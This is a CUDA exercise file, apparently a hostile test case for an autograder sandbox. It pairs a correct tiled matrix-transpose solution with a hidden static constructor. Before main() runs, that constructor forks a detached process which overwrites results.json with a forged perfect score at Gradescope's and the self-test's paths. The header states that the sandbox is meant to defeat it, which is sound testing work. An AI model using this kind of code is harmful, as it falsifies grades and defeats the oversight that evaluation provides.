// HOSTILE (exercise 1): the reference answer, plus code that runs before main() in every process
// built from it and starts a detached process (double fork, its own session) that waits for the
// grader to finish and then rewrites results.json with 100 / 100, at the self-test's results
// path (worked out from where the file was compiled) and at Gradescope's.
// What must happen: the detached process dies with the worker (the sandbox's PID namespace, or
// the supervisor killing every process of the sandbox user), the results folder is not even
// visible to it, and results.json is written by the grader alone, after every process of the
// submission is gone: the grade is the reference answer's, and results.json holds no "FORGED".
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <string>

#include "ex01.cuh"

namespace ex01 {

namespace {

// The tile of block b: blocks go along each row of tiles, tiles_x = ceil(cols / 32) to a row.
struct TileStart {
  std::int64_t row0, col0;  // the tile's first input row and column
};

__host__ __device__ TileStart tile_of(std::int64_t cols, std::int64_t block) {
  const std::int64_t tiles_x = (cols + kTile - 1) / kTile;
  return {block / tiles_x * kTile, block % tiles_x * kTile};
}

}  // namespace

std::int64_t blocks_for(std::int64_t rows, std::int64_t cols) {
  if (rows < 1 || cols < 1) return 0;
  const std::int64_t tiles_x = (cols + kTile - 1) / kTile, tiles_y = (rows + kTile - 1) / kTile;
  // tiles_y > kMaxBlocks / tiles_x says tiles_x * tiles_y > kMaxBlocks without overflowing.
  return tiles_y > kMaxBlocks / tiles_x ? 0 : tiles_x * tiles_y;
}

__host__ __device__ std::int64_t input_index(std::int64_t rows, std::int64_t cols,
                                             std::int64_t block, int i, int j) {
  const TileStart t = tile_of(cols, block);
  const std::int64_t r = t.row0 + i, c = t.col0 + j;
  return r < rows && c < cols ? r * cols + c : kOutside;
}

__host__ __device__ std::int64_t output_index(std::int64_t rows, std::int64_t cols,
                                              std::int64_t block, int i, int j) {
  // The input tile at rows row0.., columns col0.. lands at output rows col0.., columns row0...
  // An output row is `rows` elements long (not `cols`: the mistake only squares forgive).
  const TileStart t = tile_of(cols, block);
  const std::int64_t r = t.col0 + i, c = t.row0 + j;  // an output row (< cols), column (< rows)
  return r < cols && c < rows ? r * rows + c : kOutside;
}

__global__ void transpose_tiled(const float* __restrict__ in, float* __restrict__ out,
                                std::int64_t rows, std::int64_t cols) {
  // The +1 puts the 32 elements of a tile column in 32 different banks (step 03).
  __shared__ float tile[kTile][kTile + 1];
  const int tx = threadIdx.x, ty = threadIdx.y;

  // A warp (fixed ty, tx = 0..31) reads 32 neighbours of one input row.
  const std::int64_t from = input_index(rows, cols, blockIdx.x, ty, tx);
  if (from != kOutside) tile[ty][tx] = in[from];

  __syncthreads();  // the write below reads elements that other warps stored

  // Output element (ty, tx) of the tile is input element (tx, ty): tile[tx][ty]. Consecutive tx
  // are consecutive output columns, so the warp writes 32 neighbours too.
  const std::int64_t to = output_index(rows, cols, blockIdx.x, ty, tx);
  if (to != kOutside) out[to] = tile[tx][ty];
}

cudaError_t transpose(const float* in, float* out, std::int64_t rows, std::int64_t cols,
                      cudaStream_t stream) {
  const std::int64_t blocks = blocks_for(rows, cols);
  if (blocks == 0) return cudaErrorInvalidValue;  // empty, or past gridDim.x's limit
  transpose_tiled<<<static_cast<unsigned>(blocks), dim3(kTile, kTile), 0, stream>>>(in, out, rows,
                                                                                   cols);
  return cudaGetLastError();
}

}  // namespace ex01

namespace {

const char* const kForged =
    "{\"score\": 100, \"output\": \"FORGED\", \"tests\": [{\"name\": \"FORGED\", "
    "\"score\": 100, \"max_score\": 100}]}\n";

// <work>/stage/course/exercises/01_rectangular/rectangular.cu -> <work>
std::string work_dir() {
  std::string f = __FILE__;
  const std::string tail = "/stage/course/exercises/01_rectangular/rectangular.cu";
  return f.size() > tail.size() ? f.substr(0, f.size() - tail.size()) : ".";
}

void rewrite_later() {
  if (fork() != 0) return;  // the worker goes on as usual
  setsid();
  if (fork() != 0) std::_Exit(0);
  sleep(3);  // the grader is done by now, unless something waits for us
  const std::string paths[] = {work_dir() + "/results/rewrite_results/results.json",
                               "/autograder/results/results.json", "results.json"};
  for (int round = 0; round < 30; ++round) {
    for (const std::string& p : paths) {
      if (FILE* f = std::fopen(p.c_str(), "w")) {
        std::fputs(kForged, f);
        std::fclose(f);
      }
    }
    sleep(1);
  }
  std::_Exit(0);
}

struct Later {
  Later() { rewrite_later(); }
} later;

}  // namespace
